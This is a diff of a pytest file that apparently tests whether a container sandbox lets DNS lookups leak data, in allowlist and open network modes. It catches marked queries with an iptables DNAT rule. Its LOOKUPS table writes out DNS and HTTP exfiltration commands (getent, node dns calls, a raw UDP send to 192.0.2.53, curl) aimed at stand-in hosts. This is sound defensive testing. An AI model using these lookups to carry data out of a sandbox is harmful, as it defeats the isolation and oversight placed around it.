@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import ipaddress
 import re
 import socket
 import threading
@@ -14,6 +13,7 @@ from pathlib import Path
 import pytest
 from boxes import Box, finished, make_box
 
+MARK = "stolen"
 # Each line looks one name up; LABEL becomes what a tool has stolen.
 LOOKUPS = {
     "resolver": "getent hosts LABEL.example",
@@ -21,7 +21,7 @@ LOOKUPS = {
     "Node": "node -e \"require('dns').lookup('LABEL.example', () => {})\"",
     "Node's own resolver": "node -e \"require('dns').resolve4('LABEL.example', () => process.exit())\"",
     "asked directly": "python3 -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto("
-    "b'LABEL', ('SERVER', 53))\"",
+    "b'LABEL', ('192.0.2.53', 53))\"",
     "by the proxy": "curl -s --max-time 5 http://LABEL.example/",
     "by CONNECT": "curl -s --max-time 5 https://LABEL.example/",
 }  # fmt: skip
@@ -32,9 +32,10 @@ class NameServer(threading.Thread):
 
     def __init__(self, address: str) -> None:
         super().__init__(daemon=True)
-        self.address, self.seen = address, b""
+        self.seen = b""
         self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-        self.socket.bind((address, 53))
+        self.socket.bind((address, 0))
+        self.place = f"{address}:{self.socket.getsockname()[1]}"
 
     def run(self) -> None:
         while True:
@@ -48,20 +49,18 @@ class NameServer(threading.Thread):
 
 
 @pytest.fixture
-def name_server(engine: None) -> Iterator[NameServer]:
-    """Stands in for the host's own, the one that an engine's resolver asks."""
-    named = re.search(r"^nameserver\s+(\S+)$", Path("/etc/resolv.conf").read_text(), re.MULTILINE)
-    address = ipaddress.ip_address(named[1]) if named else None
-    if not address or address.version != 4 or address.is_loopback:
-        pytest.skip("the host's name server is none that an engine would ask")
-    taken = ["ip", "address", "add", f"{address}/32", "dev", "lo"]
-    if finished(taken).returncode:
-        pytest.skip("needs root to stand in for the host's name server")
-    server = NameServer(str(address))
+def name_server(gateway: str) -> Iterator[NameServer]:
+    """Gets what containers ask any name server about, where the name begins with MARK: others go on to theirs."""
+    server = NameServer(gateway)
+    rule = ["PREROUTING", "-p", "udp", "--dport", "53", "-m", "string", "--algo", "bm", "--string", MARK]
+    rule += ["-j", "DNAT", "--to-destination", server.place]
+    added = finished(["iptables", "-t", "nat", "-I", *rule])
+    if added.returncode:
+        pytest.skip(f"needs root and iptables: {added.stderr}")
     server.start()
     yield server
+    finished(["iptables", "-t", "nat", "-D", *rule])
     server.socket.close()
-    finished(["del" if word == "add" else word for word in taken])
 
 
 @pytest.mark.usefixtures("images")
@@ -69,13 +68,12 @@ def test_no_name_leaves_the_container(name_server: NameServer, tmp_path: Path) -
     box = make_box(tmp_path)
     for mode in ("allowlist", "open"):
         lines = [
-            f"({line.replace('LABEL', f'{mode}{number}').replace('SERVER', name_server.address)}) & "
-            for number, line in enumerate(LOOKUPS.values())
+            f"({line.replace('LABEL', f'{MARK}-{mode}{number}')}) & " for number, line in enumerate(LOOKUPS.values())
         ]
         done = box.agentbox("shell", "--network", mode, "--", "bash", "-c", " ".join(lines) + "wait; echo done")
         assert done.stdout.endswith("done\n"), done.stderr
     asked = {
-        mode: [name for number, name in enumerate(LOOKUPS) if f"{mode}{number}".encode() in name_server.seen]
+        mode: [name for number, name in enumerate(LOOKUPS) if f"{MARK}-{mode}{number}".encode() in name_server.seen]
         for mode in ("allowlist", "open")
     }
     # The control: with the engine's resolver as it comes, each of them told the name.
